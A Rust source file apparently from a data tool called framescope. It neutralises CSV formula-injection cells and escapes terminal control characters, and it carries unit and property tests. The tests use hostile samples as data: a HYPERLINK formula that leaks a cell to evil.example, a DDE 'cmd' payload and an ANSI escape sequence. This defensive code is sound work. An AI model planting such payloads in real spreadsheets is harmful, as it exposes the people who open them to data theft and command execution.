//! Making text safe for where it goes: CSV cells a spreadsheet would execute, and control
//! characters on a terminal.
//!
//! **CSV formula neutralisation** (the OWASP convention): a cell whose text starts with `=`,
//! `+`, `-`, `@`, a tab or a carriage return and is not a number is written with a leading
//! `'`, which Excel and LibreOffice show as text instead of evaluating (`=HYPERLINK(…)` in a
//! scraped headline would otherwise run when a researcher opens scores.csv). A text that
//! already starts with `'` followed by such a cell gets one more `'`, so [`restore`] undoes
//! [`neutralise`] exactly and framescope reads its own tables back unchanged. Raw cells
//! ([`CellPolicy::Raw`], `--raw-csv`) are for pipelines that never meet a spreadsheet.

use std::borrow::Cow;
use std::sync::atomic::{AtomicBool, Ordering};

/// How CSV cells are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CellPolicy {
    /// Cells a spreadsheet would execute get a leading `'` (the default).
    #[default]
    Neutralise,
    /// Cells are written as they are.
    Raw,
}

static RAW: AtomicBool = AtomicBool::new(false);

impl CellPolicy {
    /// The policy every CSV writer of this process uses. One setting for the process because
    /// every table must follow it (a table written raw beside neutralised ones could not be
    /// read back consistently); the front end sets it once from `--raw-csv`.
    pub fn current() -> CellPolicy {
        if RAW.load(Ordering::Relaxed) {
            CellPolicy::Raw
        } else {
            CellPolicy::Neutralise
        }
    }

    pub fn set(self) {
        RAW.store(self == CellPolicy::Raw, Ordering::Relaxed);
    }
}

/// A plain decimal number (`-0.5`, `+3`, `1e-6`): spreadsheets read it as a number, so it is
/// left alone. `inf`, `NaN` and the like are not numbers here.
fn is_number(b: &[u8]) -> bool {
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let digits = |i: &mut usize| {
        let start = *i;
        while *i < b.len() && b[*i].is_ascii_digit() {
            *i += 1;
        }
        *i - start
    };
    let mut n = digits(&mut i);
    if i < b.len() && b[i] == b'.' {
        i += 1;
        n += digits(&mut i);
    }
    if n == 0 {
        return false;
    }
    if i < b.len() && matches!(b[i], b'e' | b'E') {
        i += 1;
        if i < b.len() && matches!(b[i], b'+' | b'-') {
            i += 1;
        }
        if digits(&mut i) == 0 {
            return false;
        }
    }
    i == b.len()
}

/// Whether a cell needs the leading `'`.
fn needs_quote(s: &str) -> bool {
    needs_quote_bytes(s.as_bytes())
}

/// [`needs_quote`] on a cell's bytes. Only ASCII bytes decide it (the first bytes and the
/// number syntax), so a cell that is not valid UTF-8 gets the same answer as its lossy text.
fn needs_quote_bytes(b: &[u8]) -> bool {
    match b.first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => !is_number(b),
        Some(b'\'') => needs_quote_bytes(&b[1..]),
        _ => false,
    }
}

/// The cell as written under the current policy.
pub fn neutralise(s: &str) -> Cow<'_, str> {
    if CellPolicy::current() == CellPolicy::Neutralise && needs_quote(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// The original text of a cell framescope wrote (in either policy: a raw cell that starts
/// with `'` followed by a dangerous character cannot be told apart, and is read as
/// neutralised).
pub fn restore(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => s,
    }
}

/// Control characters (ESC, BEL, CR, …, and DEL; tabs stay) shown as `\u{1b}`-style
/// escapes, so a scraped id or title cannot move the cursor or recolour a terminal.
pub fn escape_control(s: &str) -> Cow<'_, str> {
    let unsafe_char = |c: char| c.is_control() && c != '\t';
    if !s.chars().any(unsafe_char) {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.chars()
            .map(|c| {
                if unsafe_char(c) {
                    format!("\\u{{{:x}}}", c as u32)
                } else {
                    c.to_string()
                }
            })
            .collect(),
    )
}

/// Where a [`CellGuard`] is within the CSV it is passed.
#[derive(Debug, Clone, Copy, PartialEq)]
enum At {
    /// Before a field's first byte.
    FieldStart,
    /// After a quoted field's opening quote, before its first content byte.
    ContentStart,
    /// Inside a field that needs no look at its end.
    Passing,
    /// Inside a field that starts like a formula: held until it ends, to tell `-1.5` from `-x`.
    Holding,
}

/// An [`std::io::Write`] between a `csv::Writer` and its file that neutralises cells
/// ([`neutralise`]) in the bytes the CSV writer produces, so every table gets it whichever
/// way its rows are written (records or serde). It follows the CSV writer's own output
/// (`,` delimiter, `"` quotes, any terminator), passing most bytes straight through; only a
/// field that starts with a formula character is held until its end.
///
/// Buffers are scanned, not walked byte by byte: inside a field only its end (`,` or a
/// terminator outside quotes) or a quote of a quoted field can change anything, so the bytes
/// up to the next of those are found with `memchr` and every run of untouched bytes goes out
/// in one write. The output does not depend on how the bytes are split into writes.
pub struct CellGuard<W: std::io::Write> {
    inner: W,
    policy: CellPolicy,
    at: At,
    quoted: bool,
    in_quotes: bool,
    held: Vec<u8>,
}

impl<W: std::io::Write> CellGuard<W> {
    pub fn new(inner: W) -> Self {
        CellGuard {
            inner,
            policy: CellPolicy::current(),
            at: At::FieldStart,
            quoted: false,
            in_quotes: false,
            held: Vec::new(),
        }
    }

    /// The writer underneath. Every record the CSV writer wrote ends with a terminator, so
    /// nothing is held back by then.
    pub fn into_inner(self) -> W {
        self.inner
    }

    fn end_of_field(&self, b: u8) -> bool {
        !self.in_quotes && matches!(b, b',' | b'\n' | b'\r')
    }

    /// How many bytes at the start of `buf`, inside a field, change nothing: all up to the
    /// next possible end of field in an unquoted field (its `"` are plain text), up to the
    /// next `"` inside quotes. Just after a quote of a quoted field, none (rare: the byte is
    /// looked at on its own).
    fn plain_len(&self, buf: &[u8]) -> usize {
        let next = match (self.quoted, self.in_quotes) {
            (false, _) => memchr::memchr3(b',', b'\n', b'\r', buf),
            (true, true) => memchr::memchr(b'"', buf),
            (true, false) => Some(0),
        };
        next.unwrap_or(buf.len())
    }

    /// Decide on a held field (its end byte not included) and write it out. In a quoted field
    /// the closing quote is not content; its doubled quotes (`""`) are left as they are,
    /// because a cell with a `"` is never a number and its leading bytes (all that is looked
    /// at otherwise) are the same before and after unescaping.
    fn release(&mut self) -> std::io::Result<()> {
        let content: &[u8] = if self.quoted {
            self.held.strip_suffix(b"\"").unwrap_or(&self.held)
        } else {
            &self.held
        };
        if needs_quote_bytes(content) {
            self.inner.write_all(b"'")?;
        }
        self.inner.write_all(&self.held)?;
        self.held.clear();
        Ok(())
    }
}

impl<W: std::io::Write> std::io::Write for CellGuard<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        if self.policy == CellPolicy::Raw {
            return self.inner.write(buf);
        }
        // buf[run..i] passes through unchanged and is not written yet. While a field is held,
        // its bytes go to `held` instead and nothing is pending.
        let mut run = 0;
        let mut i = 0;
        while i < buf.len() {
            if matches!(self.at, At::Passing | At::Holding) {
                let plain = self.plain_len(&buf[i..]);
                if self.at == At::Holding {
                    self.held.extend_from_slice(&buf[i..i + plain]);
                }
                i += plain;
                if i == buf.len() {
                    break;
                }
            }
            let b = buf[i];
            if self.at == At::FieldStart {
                self.quoted = b == b'"';
                self.at = At::ContentStart;
                if self.quoted {
                    self.in_quotes = true;
                    i += 1;
                    continue;
                }
            }
            if self.at == At::ContentStart {
                let formula = matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\'');
                if formula && (self.quoted || b != b'\r') {
                    self.at = At::Holding;
                    self.inner.write_all(&buf[run..i])?;
                } else {
                    self.at = At::Passing;
                }
            }
            if b == b'"' && self.quoted {
                self.in_quotes = !self.in_quotes;
            }
            let end = self.end_of_field(b);
            if self.at == At::Holding {
                if !end {
                    self.held.push(b);
                    i += 1;
                    continue;
                }
                self.release()?;
                run = i;
            }
            if end {
                self.at = At::FieldStart;
                self.quoted = false;
            }
            i += 1;
        }
        if self.at != At::Holding {
            self.inner.write_all(&buf[run..])?;
        }
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_and_numbers_are_not() {
        for (raw, want) in [
            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK("),
            ("+cmd|' /C calc'!A0", "'+cmd"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("-inf", "'-inf"),
        ] {
            assert!(needs_quote(raw), "{raw}");
            assert!(format!("'{raw}").starts_with(want));
        }
        for ok in [
            "-0.500000",
            "+3",
            "1e-6",
            "-1.5E+3",
            "Kyiv",
            "'quoted'",
            "",
            "a=b",
            "- ",
        ] {
            assert_eq!(needs_quote(ok), ok == "- ", "{ok}");
        }
    }

    #[test]
    fn restore_undoes_neutralise_exactly() {
        for s in [
            "=1+1", "'=1+1", "''=x", "'x", "x", "-3", "-x", "'", "''", "@", "'@", "\t", "=", "'-",
        ] {
            let w = if needs_quote(s) { format!("'{s}") } else { s.to_string() };
            assert_eq!(restore(&w), s, "{s:?} written as {w:?}");
        }
    }

    fn through_guard(rows: &[Vec<&str>]) -> Vec<u8> {
        let mut w = csv::Writer::from_writer(CellGuard::new(Vec::new()));
        for r in rows {
            w.write_record(r).unwrap();
        }
        w.into_inner().ok().unwrap().into_inner()
    }

    #[test]
    fn the_guard_neutralises_cells_in_csv_bytes_and_reading_restores_them() {
        let rows = vec![
            vec!["id", "title", "n"],
            vec![
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "+cmd|' /C calc'!A0",
                "-0.250000",
            ],
            vec!["a,b", "\tTab", "-x"],
            vec!["'=x", "plain \"quoted\" text", ""],
            vec!["multi\nline", "=a\nb", "@"],
        ];
        let bytes = through_guard(&rows);
        let text = String::from_utf8(bytes.clone()).unwrap();
        assert!(text.contains("\"'=HYPERLINK(\"\"http"), "{text}");
        assert!(text.contains(",'+cmd|' /C calc'!A0,-0.250000\n"), "{text}");
        let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[..]);
        let back: Vec<Vec<String>> = r
            .records()
            .map(|rec| rec.unwrap().iter().map(|f| f.to_string()).collect())
            .collect();
        for (got, want) in back.iter().zip(&rows) {
            // What a spreadsheet sees: no cell that starts a formula.
            for g in got {
                assert!(!needs_quote(g) || g.starts_with('\''), "{g:?}");
            }
            let restored: Vec<&str> = got.iter().map(|g| restore(g)).collect();
            assert_eq!(&restored, want);
        }
        assert_eq!(back.len(), rows.len());
    }

    /// The guard as it was before it scanned whole buffers (one byte at a time, held fields
    /// unescaped and decided on their lossy text): what the fast one must write, byte for byte.
    struct ByteGuard {
        out: Vec<u8>,
        at: At,
        quoted: bool,
        in_quotes: bool,
        held: Vec<u8>,
    }

    impl ByteGuard {
        fn run(input: &[u8]) -> Vec<u8> {
            let mut g = ByteGuard {
                out: Vec::new(),
                at: At::FieldStart,
                quoted: false,
                in_quotes: false,
                held: Vec::new(),
            };
            input.iter().for_each(|&b| g.byte(b));
            g.out
        }

        fn release(&mut self) {
            let content: Vec<u8> = if self.quoted {
                let inner = self.held.strip_suffix(b"\"").unwrap_or(&self.held);
                String::from_utf8_lossy(inner).replace("\"\"", "\"").into_bytes()
            } else {
                self.held.clone()
            };
            if needs_quote(&String::from_utf8_lossy(&content)) {
                self.out.push(b'\'');
            }
            self.out.append(&mut self.held);
        }

        fn byte(&mut self, b: u8) {
            if self.at == At::FieldStart {
                self.quoted = b == b'"';
                if self.quoted {
                    self.in_quotes = true;
                    self.at = At::ContentStart;
                    return self.out.push(b);
                }
                self.at = At::ContentStart;
            }
            if self.at == At::ContentStart {
                if matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\'') && (self.quoted || b != b'\r') {
                    self.at = At::Holding;
                } else {
                    self.at = At::Passing;
                }
            }
            if b == b'"' && self.quoted {
                self.in_quotes = !self.in_quotes;
            }
            let end = !self.in_quotes && matches!(b, b',' | b'\n' | b'\r');
            if self.at == At::Holding {
                if end {
                    self.release();
                } else {
                    return self.held.push(b);
                }
            }
            if end {
                self.at = At::FieldStart;
                self.quoted = false;
            }
            self.out.push(b);
        }
    }

    /// `input` through a [`CellGuard`] in writes of the given sizes (cycled; the rest in one).
    fn guarded_in_chunks(input: &[u8], sizes: &[usize]) -> Vec<u8> {
        use std::io::Write;
        let mut g = CellGuard {
            policy: CellPolicy::Neutralise,
            ..CellGuard::new(Vec::new())
        };
        let mut rest = input;
        for &n in sizes.iter().cycle().take(input.len()) {
            let (now, later) = rest.split_at(n.min(rest.len()));
            g.write_all(now).unwrap();
            rest = later;
        }
        g.write_all(rest).unwrap();
        g.into_inner()
    }

    /// Bytes the guard reacts to, often, among a few plain ones and some that are not UTF-8.
    fn csv_byte() -> impl proptest::strategy::Strategy<Value = u8> {
        proptest::sample::select(b"=+-@\t\r\n'\",,,\"0123.5eEax \xc3\xa9\xff".to_vec())
    }

    proptest::proptest! {
        #[test]
        fn the_guard_writes_the_same_bytes_however_a_csv_is_split_into_writes(
            rows in proptest::collection::vec(
                proptest::collection::vec("[-=+@\t\r\n'\",0-9.eEab ]{0,10}", 1..5),
                1..12,
            ),
            sizes in proptest::collection::vec(1usize..40, 1..8),
        ) {
            // Rows of different widths: the writers must not insist on equal lengths.
            let mut raw = csv::WriterBuilder::new().flexible(true).from_writer(Vec::new());
            for r in &rows {
                raw.write_record(r).unwrap();
            }
            let raw = raw.into_inner().ok().unwrap();
            let whole = guarded_in_chunks(&raw, &[]);
            proptest::prop_assert_eq!(&guarded_in_chunks(&raw, &sizes), &whole);
            proptest::prop_assert_eq!(&ByteGuard::run(&raw), &whole);
            // And as the tables use it: the CSV writer's own writes into the guard.
            let mut w = csv::WriterBuilder::new().flexible(true).from_writer(CellGuard {
                policy: CellPolicy::Neutralise,
                ..CellGuard::new(Vec::new())
            });
            for r in &rows {
                w.write_record(r).unwrap();
            }
            proptest::prop_assert_eq!(&w.into_inner().ok().unwrap().into_inner(), &whole);
        }

        #[test]
        fn the_guard_matches_the_byte_at_a_time_guard_on_any_bytes(
            input in proptest::collection::vec(csv_byte(), 0..300),
            sizes in proptest::collection::vec(1usize..40, 1..8),
        ) {
            let want = ByteGuard::run(&input);
            proptest::prop_assert_eq!(&guarded_in_chunks(&input, &[]), &want);
            proptest::prop_assert_eq!(&guarded_in_chunks(&input, &sizes), &want);
        }
    }

    #[test]
    fn control_characters_are_escaped_for_the_terminal() {
        assert_eq!(escape_control("id\u{1b}[31m\u{7}x"), "id\\u{1b}[31m\\u{7}x");
        assert!(matches!(escape_control("plain café"), Cow::Borrowed(_)));
    }
}
